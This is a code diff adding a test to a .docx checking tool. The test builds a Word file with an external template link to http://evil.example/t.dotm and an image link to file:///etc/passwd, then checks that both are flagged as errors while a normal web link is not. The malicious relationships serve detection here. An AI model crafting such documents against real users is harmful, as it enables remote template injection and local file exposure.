@@ -109,3 +109,23 @@ def test_a_paragraph_of_many_runs_is_checked_in_linear_time(tmp_path: Path) -> N
     findings = check(path)
     assert time.perf_counter() - start < 20
     assert not any(f.rule == "unreadable" for f in findings)
+
+
+def test_links_out_of_the_file_are_reported_web_links_are_not(tmp_path: Path) -> None:
+    # check said «không thấy lỗi» for a .docx that Word would make fetch a server template
+    # and read /etc/passwd (a review); template check reported both.
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+
+    document = docx.Document()
+    document.add_paragraph("Nội dung.")
+    settings = document.part.part_related_by(RT.SETTINGS)
+    settings.relate_to("http://evil.example/t.dotm", RT.OFFICE_DOCUMENT.rsplit("/", 1)[0]
+                       + "/attachedTemplate", is_external=True)
+    document.part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
+    document.part.relate_to("https://congdoan.vn", RT.HYPERLINK, is_external=True)
+    path = tmp_path / "links.docx"
+    document.save(str(path))
+    links = [f for f in check(path) if f.rule == "external-link"]
+    assert sorted(f.message.split("(", 1)[1].split(",")[0] for f in links) == [
+        "attachedTemplate → http://evil.example/t.dotm", "image → file:///etc/passwd"]
+    assert all(f.severity == "error" for f in links)
